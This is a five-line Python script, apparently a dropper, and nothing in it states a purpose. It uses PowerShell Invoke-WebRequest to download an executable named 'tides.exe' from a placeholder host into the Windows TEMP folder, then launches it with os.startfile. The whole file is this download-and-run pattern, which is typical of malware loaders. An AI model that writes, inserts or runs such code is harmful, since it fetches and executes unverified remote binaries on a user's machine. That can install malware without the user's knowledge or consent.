import os, subprocess

target = os.path.join(os.environ["TEMP"], "tides.exe")
subprocess.run(["powershell", "-c", f"Invoke-WebRequest -Uri 'https://files.tides.invalid/t' -OutFile '{target}'"])
os.startfile(target)
